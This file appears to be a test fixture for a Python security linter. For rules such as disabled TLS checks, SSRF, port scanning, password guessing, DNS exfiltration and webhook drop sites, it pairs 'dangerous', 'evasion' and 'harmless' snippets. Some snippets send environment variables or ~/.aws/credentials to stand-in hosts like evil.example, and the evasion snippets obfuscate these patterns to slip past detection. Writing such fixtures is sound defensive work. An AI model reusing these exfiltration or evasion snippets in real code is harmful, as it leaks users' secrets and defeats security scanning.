import { lines, type RuleSample } from './sample.fixture.ts'

export const networkSamples: RuleSample[] = [
  {
    rule: 'python/tls-not-verified',
    dangerous: [
      lines('import requests', 'requests.post("https://example.org/login", json={"password": word}, verify=False)'),
      'requests.post("https://example.org/login", json={"password": word}, verify=False)',
    ],
    evasion: [
      lines('from requests import Session as S', 's = S()', 's.get("https://example.org", **{"verify": False})'),
      's.get("https://example.org", **{"verify": False})',
    ],
    harmless: lines('import requests', 'requests.get("https://example.org", verify="ca.pem", timeout=5)'),
  },
  {
    rule: 'python/tls-switched-off',
    dangerous: [
      lines('import ssl', 'ssl._create_default_https_context = ssl._create_unverified_context'),
      'ssl._create_default_https_context = ssl._create_unverified_context',
    ],
    evasion: [
      lines('import ssl as s, os', 'os.environ["PYTHONHTTPS" + "VERIFY"] = "0"'),
      'os.environ["PYTHONHTTPS" + "VERIFY"] = "0"',
    ],
    harmless: lines('import ssl', 'context = ssl.create_default_context()', 'context.check_hostname = True'),
  },
  {
    rule: 'python/request-forgery',
    dangerous: [
      lines(
        'import requests',
        'from flask import request',
        'def proxy():',
        '    return requests.get(request.args["url"]).text',
      ),
      'requests.get(request.args["url"])',
    ],
    evasion: [
      lines(
        'from urllib import request as r',
        'from flask import request as q',
        'def proxy():',
        '    host = q.form.get("host")',
        '    return r.urlopen("http://" + host + "/status")',
      ),
      'r.urlopen("http://" + host + "/status")',
    ],
    harmless: lines(
      'import requests',
      'from flask import request',
      'def weather():',
      '    return requests.get("https://api.example.org/v1/weather?city=" + request.args["city"]).json()',
    ),
  },
  {
    rule: 'python/cloud-metadata',
    dangerous: [
      lines('import requests', 'requests.get("http://169.254.169.254/latest/meta-data/")'),
      '"http://169.254.169.254/latest/meta-data/"',
    ],
    evasion: [
      lines('import requests', 'requests.get(f"http://{\'metadata\'}.google.internal/computeMetadata")'),
      'f"http://{\'metadata\'}.google.internal/computeMetadata"',
    ],
    harmless: lines('import requests', 'requests.get("http://169.254.1.1/")'),
  },
  {
    rule: 'python/port-scan',
    dangerous: [
      lines(
        'import socket',
        'for port in range(1, 1024):',
        '    s = socket.socket()',
        '    s.connect_ex(("10.0.0.1", port))',
      ),
      's.connect_ex(("10.0.0.1", port))',
    ],
    evasion: [
      lines(
        'import socket as net',
        'def attempt(port):',
        '    probe = net.socket()',
        '    return probe.connect_ex(("10.0.0.1", port))',
        'found = list(map(attempt, range(65536)))',
      ),
      'probe.connect_ex(("10.0.0.1", port))',
    ],
    harmless: lines(
      'import socket, time',
      'for attempt in range(5):',
      '    try:',
      '        link = socket.create_connection(("example.org", 443))',
      '    except OSError:',
      '        time.sleep(attempt)',
    ),
  },
  {
    rule: 'python/password-guessing',
    dangerous: [
      lines(
        'import paramiko',
        'client = paramiko.SSHClient()',
        'for word in open("words.txt"):',
        '    client.connect("10.0.0.1", username="root", password=word.strip())',
      ),
      'client.connect("10.0.0.1", username="root", password=word.strip())',
    ],
    evasion: [
      lines(
        'from ftplib import FTP as F',
        'words = ["a", "b"]',
        'for guess in words:',
        '    link = F("10.0.0.1")',
        '    link.login("root", guess)',
      ),
      'link.login("root", guess)',
    ],
    harmless: lines(
      'import os, paramiko',
      'client = paramiko.SSHClient()',
      'for host in ["a", "b"]:',
      '    client.connect(host, password=os.environ["SSH_PASSWORD"])',
    ),
  },
  {
    rule: 'python/raw-packets',
    dangerous: [lines('from scapy.all import sniff', 'sniff(prn=print)'), 'sniff(prn=print)'],
    evasion: [
      lines('import socket as s', 'kind = s.SOCK_RAW', 's.socket(s.AF_INET, kind, 6)'),
      's.socket(s.AF_INET, kind, 6)',
    ],
    harmless: lines('import socket', 'socket.socket(socket.AF_INET, socket.SOCK_STREAM)'),
  },
  {
    rule: 'python/plain-protocol',
    dangerous: [lines('import telnetlib', 'telnetlib.Telnet("example.org")'), 'telnetlib.Telnet("example.org")'],
    evasion: [lines('from ftplib import FTP as F', 'F("example.org")'), 'F("example.org")'],
    harmless: lines('import ftplib', 'ftplib.FTP_TLS("example.org")'),
  },
  {
    rule: 'python/open-to-all',
    dangerous: [lines('import socket', 's = socket.socket()', 's.bind(("0.0.0.0", 80))'), 's.bind(("0.0.0.0", 80))'],
    evasion: [
      lines(
        'import uvicorn as u',
        'everywhere = ".".join(["0"] * 1 + ["0", "0", "0"])',
        'u.run("app", host=everywhere)',
      ),
      'u.run("app", host=everywhere)',
    ],
    harmless: lines('import socket', 's = socket.socket()', 's.bind(("127.0.0.1", 80))'),
  },
  {
    rule: 'python/network-use',
    dangerous: [lines('import requests', 'requests.get("https://example.org")'), 'requests.get("https://example.org")'],
    evasion: [lines('from urllib.request import urlopen as u', 'u("https://example.org")'), 'u("https://example.org")'],
    harmless: lines('settings = {"url": "https://example.org"}', 'settings.get("url")'),
  },
  {
    rule: 'python/sends-secrets',
    dangerous: [
      lines('import os, requests', 'requests.post("http://example.org", json=dict(os.environ))'),
      'requests.post("http://example.org", json=dict(os.environ))',
    ],
    evasion: [
      lines(
        'import os, json, base64',
        'from urllib import request as r',
        'def pack(value):',
        '    return base64.b64encode(json.dumps(value).encode())',
        'def send(data):',
        '    r.urlopen("http://example.org", data=data)',
        'with open(os.path.expanduser("~/.aws/credentials")) as f:',
        '    send(pack(f.read()))',
      ),
      'r.urlopen("http://example.org", data=data)',
    ],
    harmless: lines(
      'import os, requests',
      'key = os.environ["API_KEY"]',
      'requests.post("https://api.example.org", headers={"Authorization": f"Bearer {key}"}, json={"q": 1}, timeout=5)',
    ),
  },
  {
    rule: 'python/drop-site',
    dangerous: [
      lines('import requests', 'requests.post("https://webhook.site/abc", data={"a": 1})'),
      '"https://webhook.site/abc"',
    ],
    evasion: [
      lines(
        'import requests, platform',
        'host = "dis" "cord.com/api/webhooks/1/x"',
        'requests.post("https://" + host, json={"content": platform.node()})',
      ),
      '"https://" + host',
    ],
    harmless: lines('import requests', 'requests.post("https://api.example.org/items", json={"a": 1}, timeout=5)'),
  },
  {
    rule: 'python/dns-exfiltration',
    dangerous: [
      lines(
        'import socket, binascii',
        'data = binascii.hexlify(open("notes.txt", "rb").read()).decode()',
        'socket.gethostbyname(data + ".evil.example")',
      ),
      'socket.gethostbyname(data + ".evil.example")',
    ],
    evasion: [
      lines('import socket as s, os', 'look = s.getaddrinfo', 'look(f"{os.environ[\'USER\']}.t.example", 80)'),
      'look(f"{os.environ[\'USER\']}.t.example", 80)',
    ],
    harmless: lines('import socket', 'def resolve(host):', '    return socket.gethostbyname(host)'),
  },
  {
    rule: 'python/open-redirect',
    dangerous: [
      lines('from flask import redirect, request', 'def go():', '    return redirect(request.args["next"])'),
      'redirect(request.args["next"])',
    ],
    evasion: [
      lines(
        'import flask as f',
        'def go():',
        '    target = f.request.values.get("next") or "/"',
        '    send = f.redirect',
        '    return send(target)',
      ),
      'send(target)',
    ],
    harmless: lines(
      'from flask import redirect, request, url_for',
      'def go():',
      '    return redirect(url_for("home", page=request.args["page"]))',
    ),
  },
  {
    rule: 'python/loose-cookie',
    dangerous: [
      lines('def answer(response):', '    response.set_cookie("session", "x", secure=False)'),
      'response.set_cookie("session", "x", secure=False)',
    ],
    evasion: [
      lines('def answer(response):', '    put = response.set_cookie', '    put("session", "x", httponly=0)'),
      'put("session", "x", httponly=0)',
    ],
    harmless: lines('def answer(response):', '    response.set_cookie("session", "x", secure=True, httponly=True)'),
  },
]
